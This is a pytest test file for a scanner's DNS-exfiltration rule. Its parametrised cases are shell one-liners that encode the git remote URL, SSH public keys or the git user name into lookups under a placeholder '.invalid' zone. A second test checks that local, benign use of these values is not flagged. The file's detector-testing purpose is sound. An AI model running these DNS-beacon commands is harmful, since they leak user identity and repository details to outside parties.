"""Who the user is and which repository this is (``git config user.email``, ``git remote get-url
origin``, the user's SSH public keys) carried in DNS names under someone's zone is a beacon, as
``whoami`` there is. The same values used locally or sent to their own service stay quiet: a public
key is no secret. Zones are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "script",
    [
        "host $(git remote get-url origin | base32 | tr -d =).t.metrics-zone.invalid\n",
        "nslookup \"$(head -c 40 ~/.ssh/id_ecdsa.pub | od -An -tx1 | tr -d ' \\n')\".k.metrics-zone.invalid\n",
        "dig +short $(cut -d' ' -f2 ~/.ssh/id_rsa.pub | tac | head -c 50).k.metrics-zone.invalid\n",
        "for w in $(git config --global --get user.name | xxd -p); do drill $w.n.metrics-zone.invalid; done\n",
    ],
)
def test_identity_carried_in_lookup_names(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/stats.sh": script})
    assert any(rule == "DNS_EXFILTRATION" for rule, _, _ in errors)


def test_identity_used_locally_or_sent_to_its_own_service_stays_quiet(tmp_path: Path) -> None:
    script = (
        'git log --author="$(git config user.email)" --since=7.days --oneline\n'
        'key=$(cat ~/.ssh/id_ed25519.pub)\ngh api user/keys -f title=laptop -f key="$key"\n'
        'echo "remote: $(git remote get-url origin)"\n'
    )
    findings = scan_findings(tmp_path, {"scripts/stats.sh": script})
    assert [f for f in findings if f.severity.value in ("error", "warning")] == []
